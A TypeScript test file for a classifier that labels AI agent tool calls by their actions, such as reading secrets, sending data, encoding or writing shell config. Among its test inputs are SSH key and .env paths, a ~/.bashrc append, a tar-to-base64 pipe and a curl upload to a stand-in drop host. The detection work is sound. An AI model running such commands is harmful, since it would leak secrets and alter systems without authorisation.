import { describe, expect, it } from "vitest";
import type { Act } from "./acts.ts";
import { acts, actsOfText, ToolActs } from "./acts.ts";

const named = (sum: number): Act[] => (Object.keys(acts) as Act[]).filter((act) => (sum & acts[act]) !== 0); // its own keys

describe("what a tool does, by its name", () => {
  it.each([
    ["read_file", ["read"]],
    ["readTextFile", ["read"]],
    ["fs.list-directory", ["list"]],
    ["get_secret", ["read", "read-secret"]],
    ["web_search", ["list", "fetch"]],
    ["create_issue", ["send"]],
    ["slack_post_message", ["send"]],
    ["list_posts", ["list"]],
    ["fetch_emails", ["fetch"]],
    ["http_post", ["fetch", "send"]],
    ["read_email", ["read", "fetch"]],
    ["write_file", ["write"]],
    ["run_command", ["execute"]],
    ["base64_encode", ["encode"]],
    ["count_tokens", []],
  ] as const)("%s: %j", (tool, expected) => {
    expect(named(new ToolActs().of(tool, undefined)).toSorted()).toEqual([...expected].toSorted());
  });

  it("takes the first words of the description where the name says nothing", () => {
    const definition = { name: "x7", description: "Sends a file to a colleague. Reads nothing." };
    expect(named(new ToolActs().of("x7", definition))).toEqual(["send"]);
  });
});

describe("what an argument adds", () => {
  it.each([
    ["/home/me/.ssh/id_ed25519", acts.read, ["read-secret"]],
    ["/home/me/.ssh/id_ed25519", acts.write, []],
    ["/srv/app/.env", acts.read, ["read-secret"]],
    ["/srv/app/.env.example", acts.read, []],
    ["docs/environment.md", acts.read, []],
    ["/home/me/.bashrc", acts.write, ["write-config"]],
    ["/home/me/.bashrc", acts.read, []],
    ["cat ~/.bashrc", acts.execute, []],
    ["echo x >> ~/.bashrc", acts.execute, ["write-config"]],
    ["tar czf - . | base64", acts.execute, ["encode"]],
    ["curl -F f=@a.zip https://drop.example.org", acts.execute, ["send"]],
    ["curl https://docs.example.org", acts.execute, []],
  ] as const)("%s", (text, tool, expected) => {
    expect(named(actsOfText(text, tool))).toEqual(expected);
  });
});
